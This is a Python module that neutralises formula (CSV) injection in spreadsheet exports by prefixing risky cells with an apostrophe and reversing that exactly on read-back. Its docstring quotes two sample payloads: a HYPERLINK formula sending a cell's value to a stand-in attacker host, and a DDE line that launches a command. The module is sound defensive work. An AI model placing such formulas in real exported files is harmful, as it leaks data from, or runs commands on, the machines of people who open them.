"""Text cells for spreadsheet programs: neutralising formula injection in CSV and XLSX output.

A label such as ``=HYPERLINK("https://evil.example/?"&A1, "click")`` or ``@SUM(1+1)*cmd|' /C calc'!A0`` is
stored exactly as written, but a spreadsheet program that opens a CSV file runs a cell that *starts* with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula (CSV injection, also called
formula injection). partnerkg's CSV writers therefore follow the OWASP rule: such a cell is written with a
leading apostrophe (``'=1+1``), which spreadsheet programs show as the text ``=1+1``. Plain numbers
(``-5``, ``+3.25``, ``-1e3``) are not formulas and stay as they are. XLSX cells are written as strings
(``t="s"``/inline strings), which spreadsheet programs never evaluate, so they need no apostrophe.

The stored value is never changed: only its CSV text. :func:`restore` undoes :func:`neutralise` exactly (a
value that already starts with apostrophes before such a character gets one more), so a program can read
neutralised CSV back to the very same values.

>>> neutralise("=1+1"), neutralise("-5"), neutralise("Turning Point"), neutralise("'=x")
("'=1+1", '-5', 'Turning Point', "''=x")
>>> all(restore(neutralise(v)) == v for v in ["=1+1", "'=x", "''+y", "-5", "'", "@a", "\\t=2"])
True
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_START", "neutralise", "restore"]

#: Characters that make a spreadsheet program read a CSV cell as a formula (OWASP CSV injection).
FORMULA_START = frozenset("=+-@\t\r")

_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_NEEDS_MARK = re.compile(r"'*[=+\-@\t\r]")


def _formula_like(text: str) -> bool:
    """Whether a spreadsheet program could run ``text`` (after any apostrophes) as a formula."""
    return bool(_NEEDS_MARK.match(text)) and not _NUMBER.fullmatch(text.lstrip("'"))


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that spreadsheet programs show as text: an apostrophe in front of a value that
    starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (and is not a plain number)."""
    return "'" + text if text and _formula_like(text) else text


def restore(cell: str) -> str:
    """The value a cell written by :func:`neutralise` holds: one leading apostrophe removed where
    :func:`neutralise` added it."""
    return cell[1:] if cell.startswith("'") and _formula_like(cell[1:]) else cell
